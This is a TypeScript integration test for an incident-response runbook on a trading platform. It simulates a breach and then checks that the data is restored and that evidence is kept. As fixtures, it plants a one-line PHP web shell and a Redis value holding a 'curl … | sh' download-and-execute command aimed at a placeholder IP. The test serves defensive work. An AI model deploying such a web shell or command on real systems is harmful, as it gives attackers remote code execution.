// security-breach.ts against a real platform: a backup set is taken, the breach time is
// recorded, and an "intruder" then adds a rogue admin, deletes trades, plants a Redis key and a
// web shell and deletes a file. The operator's hooks are shell commands that append to a log
// in the test directory. The runbook runs as its own process; the recovery is checked by
// reading the database, Redis, the files and the app directly against what was captured
// before the breach, never through the runbook's output.

import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { haltStatus } from '@drkit/treasury-halt';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPlatform, type TestPlatform } from '../support/platform.ts';

let platform: TestPlatform;
let config: string;
let hooksLog: string;
let breachTime: string;
let before: Snapshot;

interface Snapshot {
  users: { n: number; digest: string };
  trades: { n: number; digest: string };
  files: Record<string, string>;
}

const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

/** Every file under `dir` with its SHA-256, by relative path. */
function tree(dir: string, root = dir): Record<string, string> {
  const out: Record<string, string> = {};
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) Object.assign(out, tree(path, root));
    else out[relative(root, path)] = createHash('sha256').update(readFileSync(path)).digest('hex');
  }
  return out;
}

/** What the app's data is, read independently of the runbook. */
async function snapshot(): Promise<Snapshot> {
  const db = await platform.sql(async (client) => {
    const digest = async (sql: string) => {
      const row = (await client.query<{ n: string; digest: string }>(sql)).rows[0];
      return { n: Number(row?.n), digest: row?.digest ?? '' };
    };
    return {
      users: await digest(
        "SELECT COUNT(*)::text AS n, md5(COALESCE(string_agg(id || ':' || email || ':' || name, ',' ORDER BY id), '')) AS digest FROM users",
      ),
      trades: await digest(
        "SELECT COUNT(*)::text AS n, md5(COALESCE(string_agg(id || ':' || user_id || ':' || qty || ':' || price, ',' ORDER BY id), '')) AS digest FROM trades",
      ),
    };
  });
  return { ...db, files: tree(platform.uploadsDir) };
}

async function withRedis<T>(fn: (redis: Redis) => Promise<T>): Promise<T> {
  const redis = new Redis(platform.redis.url, { maxRetriesPerRequest: 1 });
  try {
    return await fn(redis);
  } finally {
    redis.disconnect();
  }
}

async function trade(): Promise<number> {
  const response = await fetch(`${platform.app.url}/api/trades`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ userId: 1, symbol: 'ETH-USD', side: 'sell', qty: '1', price: '3000' }),
  });
  await response.arrayBuffer();
  return response.status;
}

async function databases(): Promise<string[]> {
  return platform.sql(
    async (client) => (await client.query<{ datname: string }>('SELECT datname FROM pg_database ORDER BY 1')).rows.map((r) => r.datname),
    'postgres',
  );
}

function hookLines(): string[] {
  return existsSync(hooksLog) ? readFileSync(hooksLog, 'utf8').trim().split('\n') : [];
}

function runDirs(): string[] {
  return existsSync(platform.runsDir) ? readdirSync(platform.runsDir) : [];
}

/** The intruder: a rogue admin, deleted trades, a planted Redis key, a web shell, a deleted and a defaced upload. */
async function intrude(): Promise<void> {
  await platform.sql(async (client) => {
    await client.query("INSERT INTO users (email, name) VALUES ('rogue-admin@intruder.example', 'admin')");
    await client.query('DELETE FROM trades WHERE id % 10 = 3');
  });
  await withRedis((redis) => redis.set('backdoor', 'curl http://203.0.113.7/x | sh'));
  writeFileSync(join(platform.uploadsDir, 'uploads', '2025', '10', 'shell.php'), '<?php system($_GET["c"]); ?>');
  const [deleted, altered] = Object.keys(before.files).sort() as [string, string];
  rmSync(join(platform.uploadsDir, deleted));
  writeFileSync(join(platform.uploadsDir, altered), 'defaced');
}

beforeAll(async () => {
  platform = await startPlatform();
  hooksLog = join(platform.dir, 'hooks.log');
  const append = (line: string) => `echo "${line}" >> ${q(hooksLog)}`;
  config = platform.writeConfig((sandbox) => {
    (sandbox.vars as Record<string, unknown>).hooks = {
      blockIngress: append('block-ingress since=$DRKIT_BREACH_TIME'),
      collectLogs: `${append('collect-logs since=$DRKIT_SINCE')}; echo "sshd[311]: Accepted publickey for intruder from 203.0.113.7"`,
      rotateSecrets: append('rotate-secrets'),
      redeploy: append('redeploy version=$DRKIT_KNOWN_GOOD'),
      unblockIngress: append('unblock-ingress'),
    };
  }, 'breach.config.json');
  await platform.backupAll();
  before = await snapshot();
  // A moment after the backups completed, the intruder gets in.
  await new Promise((resolve) => setTimeout(resolve, 50));
  breachTime = new Date().toISOString();
  await new Promise((resolve) => setTimeout(resolve, 50));
  await intrude();
}, 180_000);

afterAll(async () => {
  await platform?.stop();
}, 60_000);

describe('security-breach runbook', () => {
  it('--dry-run assesses the damage and changes nothing: no hook runs, the data stays as the intruder left it', async () => {
    const damaged = await snapshot();
    expect(damaged.users.n).toBe(before.users.n + 1);
    const outcome = await platform.runbook('security-breach', ['--breach-time', breachTime, '--known-good', 'v1.2.3', '--dry-run'], {
      config,
    });
    expect(outcome.code, `${outcome.stdout}\n${outcome.stderr}`).toBe(0);
    // The read-only assessment ran for real: it names what changed since the pre-breach backup.
    expect(outcome.stderr).toMatch(
      new RegExp(`changed since the pre-breach backup: .*public\\.users: ${before.users.n} rows → ${before.users.n + 1} rows`),
    );
    expect(hookLines()).toEqual([]);
    expect(await snapshot()).toEqual(damaged);
    expect(await withRedis((redis) => redis.get('backdoor'))).not.toBeNull();
    expect((await withRedis((redis) => haltStatus({ redis }))).halted).toBe(false);
    expect((await databases()).filter((d) => d.includes('damaged'))).toEqual([]);
    expect(platform.slack.requests).toEqual([]);
  }, 180_000);

  it('contains, assesses, eradicates and restores the pre-breach state; trading stays halted', async () => {
    const runsBefore = runDirs();
    const outcome = await platform.runbook('security-breach', ['--breach-time', breachTime, '--known-good', 'v1.2.3', '--yes'], { config });
    expect(outcome.code, `${outcome.stdout}\n${outcome.stderr}`).toBe(0);

    // The operator's hooks ran in the procedure's order, with the breach time and the version.
    expect(hookLines()).toEqual([
      `block-ingress since=${breachTime}`,
      `collect-logs since=${breachTime}`,
      'rotate-secrets',
      'redeploy version=v1.2.3',
      'unblock-ingress',
    ]);

    // The data is the pre-breach data: the rogue admin is gone, the deleted trades are back.
    const after = await snapshot();
    expect(after.users).toEqual(before.users);
    expect(after.trades).toEqual(before.trades);
    expect(await platform.sql(async (c) => (await c.query("SELECT 1 FROM users WHERE email LIKE '%intruder%'")).rowCount)).toBe(0);
    // The files are the pre-breach files: the deleted one back, the defaced one replaced, the web shell set aside as evidence.
    expect(after.files).toEqual(before.files);
    const aside = readdirSync(join(platform.uploadsDir, '..')).filter((d) => d.startsWith('uploads.drkit-breach-'));
    expect(aside).toHaveLength(1);
    expect(existsSync(join(platform.uploadsDir, '..', aside[0] as string, 'uploads', '2025', '10', 'shell.php'))).toBe(true);
    // Redis is the pre-breach dataset.
    expect(await withRedis((redis) => redis.get('backdoor'))).toBeNull();

    // Trading is halted, through the restores, and stays so.
    const state = await withRedis((redis) => haltStatus({ redis }));
    expect(state.halted).toBe(true);
    expect(state.reason).toContain(`intruder in since ${breachTime}`);
    expect(await trade()).toBe(423);
    // The restored database's audit log still has the engage record (carried over the restore).
    const engaged = await platform.sql(
      async (c) =>
        (await c.query<{ reason: string }>("SELECT reason FROM drkit_treasury.halt_audit WHERE action = 'engaged' ORDER BY id")).rows,
    );
    expect(engaged.map((r) => r.reason)).toContain(`security breach: intruder in since ${breachTime}`);
    // The breached database is kept for forensics.
    expect((await databases()).filter((d) => d.startsWith(`${platform.database}_damaged_`))).toHaveLength(1);

    // The app is healthy.
    expect((await fetch(`${platform.app.url}/health`)).status).toBe(200);

    // Sev1 alert and resolution; the run's report and the evidence beside it.
    const texts = platform.slack.requests.map((r) => (r.body as { text?: string }).text ?? '');
    expect(texts[0]).toMatch(/JARVIS INCIDENT - Sev1/);
    expect(texts.at(-1)).toMatch(/JARVIS INCIDENT RESOLVED/);
    const run = runDirs().find((d) => d.startsWith('security-breach-') && !runsBefore.includes(d)) as string;
    expect(readFileSync(join(platform.runsDir, run, 'report.md'), 'utf8')).toMatch(/succeeded/);
    expect(readFileSync(join(platform.runsDir, run, 'breach-evidence.md'), 'utf8')).toContain('Accepted publickey for intruder');
  }, 240_000);

  it('refuses to restore when no backup is older than the breach time: exit 1, nothing restored', async () => {
    // Written after the recovery: a restore would take it away.
    await platform.sql((c) => c.query("INSERT INTO users (email, name) VALUES ('after-recovery@example.test', 'after')"));
    const kept = await snapshot();
    const damagedBefore = (await databases()).filter((d) => d.includes('damaged'));
    const runsBefore = runDirs();
    const early = '2001-01-01T00:00:00.000Z';
    const outcome = await platform.runbook('security-breach', ['--breach-time', early, '--known-good', 'v1.2.3', '--yes'], { config });
    expect(outcome.code, `${outcome.stdout}\n${outcome.stderr}`).toBe(1);
    expect(outcome.stderr).toMatch(new RegExp(`no backup captured before the breach time ${early.replace(/\./g, '\\.')}`));
    expect(await snapshot()).toEqual(kept);
    expect((await databases()).filter((d) => d.includes('damaged'))).toEqual(damagedBefore);
    const run = runDirs().find((d) => d.startsWith('security-breach-') && !runsBefore.includes(d)) as string;
    const report = readFileSync(join(platform.runsDir, run, 'report.md'), 'utf8');
    expect(report).toMatch(/choose-backups/);
    expect(report).toMatch(/failed/);
    expect(report).toContain(early);
  }, 180_000);
});
